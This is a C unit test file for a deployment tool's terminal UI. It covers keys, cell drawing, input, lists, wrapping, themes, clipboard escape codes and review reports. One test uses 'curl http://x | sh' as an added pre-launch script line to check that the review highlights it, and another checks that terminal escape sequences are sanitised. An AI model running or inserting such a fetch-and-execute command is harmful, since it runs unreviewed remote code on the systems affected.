/* SPDX-License-Identifier: Apache-2.0 */
/* The parts of ui that need neither a terminal nor a session: keys, cells, input, lists, codes, the report of a review. */
#include "unit/unit.h"

#include <locale.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/text.h"
#include "compose/diff.h"
#include "compose/manifest.h"
#include "ui/cells.h"
#include "ui/keys.h"
#include "ui/report.h"
#include "ui/review_diff.h"
#include "ui/review_tabs.h"
#include "ui/term_codes.h"
#include "ui/theme.h"
#include "ui/widget_input.h"
#include "ui/widget_list.h"
#include "ui/widget_text.h"

static const char *drawn(struct cells *cells)
{
	static char shown[1024];
	struct buf text = BUF_INIT;

	cells_dump(cells, &text);
	text_copy(shown, sizeof(shown), buf_text(&text));
	buf_clear(&text);
	return shown;
}

static void test_keys(void **state)
{
	struct key key;
	char label[KEY_NAME_SIZE];

	(void)state;
	key_from_char(&key, 0x03);
	assert_string_equal(key.name, "<C-c>");
	assert_string_equal(key_label(label, key.name), "^C");
	key_from_char(&key, '\r');
	assert_true(key_in(&key, "a <Enter> b"));
	assert_false(key_in(&key, "<Ente"));
	assert_false(key_is_text(&key));
	key_from_char(&key, 0xE9);
	assert_string_equal(key.name, "é");
	assert_true(key_is_text(&key));
	key_from_char(&key, '<');
	assert_true(key_is_text(&key));
	assert_string_equal(key_first(label, "<C-x> q"), "<C-x>");
	assert_string_equal(key_label(label, "<F1>"), "F1");
	assert_string_equal(key_label(label, "<Enter>"), "⏎");
	keys_spell_out(true);
	assert_string_equal(key_label(label, "<Enter>"), "Enter");
	keys_spell_out(false);
}

/* A line that goes on beyond an edge says so there: what is hidden is approved as well. */
static void test_difference_marks_its_edges(void **state)
{
	static const char before[] = "a\n", after[] = "a\n0123456789012345678901234567890123456789\nshort\n";
	struct compose_diff *diff = compose_diff_new(before, sizeof(before) - 1, after, sizeof(after) - 1);
	struct diff_view view = { 0 };
	struct cells cells = { 0 };

	(void)state;
	diff_view_set(&view, diff);
	cells_begin(&cells, 3, 30);
	diff_view_draw(&view, area_all(&cells));
	assert_string_equal(drawn(&cells), "    1   a\n    2 + 012345678901234567890›\n    3 + short\n");
	assert_true(view.cut);
	scroll_move(&view.scroll, MOVE_RIGHT);
	scroll_move(&view.scroll, MOVE_RIGHT);
	scroll_move(&view.scroll, MOVE_RIGHT);
	cells_begin(&cells, 3, 30);
	diff_view_draw(&view, area_all(&cells));
	assert_string_equal(drawn(&cells), "    1  ‹\n    2 +‹4567890123456789\n    3 +‹\n");
	assert_false(view.cut);
	cells_clear(&cells);
	diff_view_clear(&view);
	compose_diff_free(diff);
}

static void test_cells_make_text_safe(void **state)
{
	struct cells cells = { 0 };

	(void)state;
	cells_begin(&cells, 2, 24);
	area_put(area_all(&cells), 0, 0, ROLE_TEXT, "a\033]0;x\007b\xE2\x80\xAE\x9B");
	area_put(area_all(&cells), 1, 20, ROLE_TEXT, "far");
	assert_string_equal(drawn(&cells), "a^[]0;x^Gb<U+202E><9B>\n                    far\n");
	cells_clear(&cells);
}

static void test_cells_wide_characters(void **state)
{
	struct cells cells = { 0 };

	(void)state;
	cells_begin(&cells, 1, 6);
	area_put(area_all(&cells), 0, 0, ROLE_TEXT, "日本x");
	assert_string_equal(drawn(&cells), "日本x\n");
	/* Half of a wide character cannot stay. */
	area_put(area_all(&cells), 0, 1, ROLE_TEXT, "y");
	assert_string_equal(drawn(&cells), " y本x\n");
	area_put(area_all(&cells), 0, 5, ROLE_TEXT, "本");
	assert_string_equal(drawn(&cells), " y本x\n");
	cells_clear(&cells);
}

static void test_cells_fields(void **state)
{
	struct cells cells = { 0 };

	(void)state;
	cells_begin(&cells, 3, 12);
	area_field(area_all(&cells), 0, 0, 5, ROLE_TEXT, "abcdefgh");
	area_field_right(area_all(&cells), 1, 0, 8, ROLE_TEXT, "12 345");
	area_field(area_cut(area_all(&cells), 2, 9, 1, 20), 0, 0, 9, ROLE_TEXT, "xyzw");
	assert_string_equal(drawn(&cells), "abcd…\n  12 345\n         xyz\n");
	cells_clear(&cells);
}

static void type(struct input *input, const char *name)
{
	struct key key = { .alone = true };

	strcpy(key.name, name);
	input_key(input, &key);
}

static void test_input(void **state)
{
	struct input input = { 0 };
	struct key paste = { .name = "<Paste>", .paste = "two\nthree", .paste_len = 9 };

	(void)state;
	type(&input, "a");
	type(&input, "é");
	type(&input, "<Space>");
	type(&input, "b");
	assert_string_equal(input.text, "aé b");
	type(&input, "<Left>");
	type(&input, "<BS>");
	type(&input, "<BS>");
	assert_string_equal(input.text, "ab");
	type(&input, "<End>");
	input_key(&input, &paste);
	assert_string_equal(input.text, "abtwo");
	input_set(&input, "/etc/hosts");
	type(&input, "<C-w>");
	assert_string_equal(input.text, "/etc/");
	type(&input, "<C-u>");
	assert_string_equal(input.text, "");
	type(&input, "<BS>");
	assert_int_equal(input.len, 0);
}

static void test_list(void **state)
{
	struct list list = { 0 };
	char place[8];

	(void)state;
	list_fit(&list, 100, 10);
	list_move(&list, MOVE_END);
	assert_int_equal(list.selected, 99);
	assert_int_equal(list.top, 90);
	list_move(&list, MOVE_PAGE_UP);
	assert_int_equal(list.selected, 90);
	list_fit(&list, 5, 10);
	assert_int_equal(list.selected, 4);
	assert_int_equal(list.top, 0);
	list_fit(&list, 0, 10);
	list_move(&list, MOVE_DOWN);
	assert_int_equal(list.selected, 0);
	scroll_fit(&list, 30, 10);
	scroll_move(&list, MOVE_PAGE_DOWN);
	assert_int_equal(list.top, 9);
	assert_string_equal(list_place(place, &list), "45%");
}

static void test_wrap(void **state)
{
	size_t next;

	(void)state;
	assert_int_equal(wrap_line("one two three", 13, 8, &next), 7);
	assert_int_equal(next, 8);
	assert_int_equal(wrap_line("abcdefghij", 10, 4, &next), 4);
	assert_int_equal(next, 4);
	assert_int_equal(wrap_line("ab\ncd", 5, 10, &next), 2);
	assert_int_equal(next, 3);
	/* Nothing fits into one column of a wide character, yet it must go on. */
	assert_int_equal(wrap_line("日", 3, 1, &next), 1);
}

static void test_theme_reads_without_colour(void **state)
{
	int role;

	(void)state;
	assert_int_equal(theme_look(ROLE_BAD, 0).fg, -1);
	assert_true(theme_look(ROLE_TEXT | ATTR_SELECTED, 0).attributes & ATTR_REVERSE);
	assert_int_equal(theme_look(ROLE_GOOD, 16).fg, 2);
	for (role = 0; role < ROLE_COUNT; role++)
		assert_true(theme_look((text_style)role, 8).fg < 8);
	assert_int_equal(theme_ascii(0x2713), '+');
	assert_int_equal(theme_ascii(0x1F600), '?');
}

static void test_copy(void **state)
{
	struct buf out = BUF_INIT;

	(void)state;
	term_codes_copy(&out, "hi", 2, false);
	assert_string_equal(buf_text(&out), "\033]52;c;aGk=\007");
	buf_reset(&out);
	term_codes_copy(&out, "hi!", 3, true);
	assert_string_equal(buf_text(&out), "\033]52;c;aGkh\007\033Ptmux;\033\033]52;c;aGkh\007\033\\");
	buf_clear(&out);
}

/* The script runs before everything else in the CVM: the review shows what of it changes, line by line. */
static void test_review_shows_the_script(void **state)
{
	static const char before[] = "#!/bin/sh\nset -e\n", after[] = "#!/bin/sh\nset -e\ncurl http://x | sh\n";
	struct compose_manifest manifest = { 0 };
	struct compose_diff *diff = compose_diff_new(before, sizeof(before) - 1, after, sizeof(after) - 1);
	struct review review = { .manifest = &manifest, .script_diff = diff };
	struct page page = { 0 };
	size_t i;

	(void)state;
	review_add_manifest(&page, &review, 80);
	assert_non_null(strstr(buf_text(&page.text), "1 line added, 0 removed"));
	for (i = 0; i < page.count && !text_starts(page.text.data + page.pieces[i].at, "curl http://x | sh"); i++)
		;
	assert_true(i < page.count);
	assert_int_equal(page.pieces[i].style, ROLE_ADDED);
	page_reset(&page);
	review.script_diff = NULL;
	review_add_manifest(&page, &review, 80);
	assert_null(strstr(buf_text(&page.text), "pre_launch_script"));
	page_clear(&page);
	compose_diff_free(diff);
}

/* An old document deployed again, in words and in JSON: what it is, and what an update leaves as it is now. */
static void test_report_of_an_old_document(void **state)
{
	static const char old_text[] = "{\"name\":\"a\",\"kms_enabled\":true}", new_text[] = "{\"name\":\"a\",\"kms_enabled\":false,\"features\":[\"kms\"]}";
	struct compose_document *before = compose_document_parse(old_text, sizeof(old_text) - 1, true, NULL);
	struct compose_document *after = compose_document_parse(new_text, sizeof(new_text) - 1, true, NULL);
	struct compose_manifest *manifest = compose_manifest_new(before, after);
	struct review_origin origin = { .label = "revision 3", .manifest = manifest };
	const struct review review = { .old_hash = "0x11", .new_hash = "0x22", .form = "compact", .old_verified = true, .hash_changes = true, .origin = &origin };
	const struct rollout_view view = { .review = &review };
	struct report report;
	char *text = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);

	(void)state;
	report_print_review(out, &view);
	fflush(out);
	assert_non_null(strstr(text, "\n  again: revision 3\n"));
	assert_non_null(strstr(text, "\n  ! an update cannot take over kms_enabled: true → false\n  ! an update cannot take over features: (none) → [\"kms\"]\n"));
	assert_null(strstr(text, "take over name"));
	report_init_json(&report);
	report.out = out;
	report.view(&report, &view);
	fflush(out);
	assert_non_null(strstr(text, "\"again\":{\"label\":\"revision 3\",\"same_compose_hash\":false,\"not_taken_over\":[\"kms_enabled\",\"features\"]}"));
	origin.same_hash = true;
	report.view(&report, &view);
	fflush(out);
	assert_non_null(strstr(text, "\"same_compose_hash\":true,\"not_taken_over\":[]}"));
	report_clear(&report);
	fclose(out);
	free(text);
	compose_manifest_free(manifest);
	compose_document_free(after);
	compose_document_free(before);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_keys), cmocka_unit_test(test_difference_marks_its_edges), cmocka_unit_test(test_cells_make_text_safe), cmocka_unit_test(test_cells_wide_characters),
		cmocka_unit_test(test_cells_fields), cmocka_unit_test(test_input), cmocka_unit_test(test_list),
		cmocka_unit_test(test_wrap), cmocka_unit_test(test_theme_reads_without_colour), cmocka_unit_test(test_copy),
		cmocka_unit_test(test_review_shows_the_script), cmocka_unit_test(test_report_of_an_old_document),
	};

	setlocale(LC_ALL, "C.UTF-8");
	return cmocka_run_group_tests_name("ui_parts", tests, NULL, NULL);
}
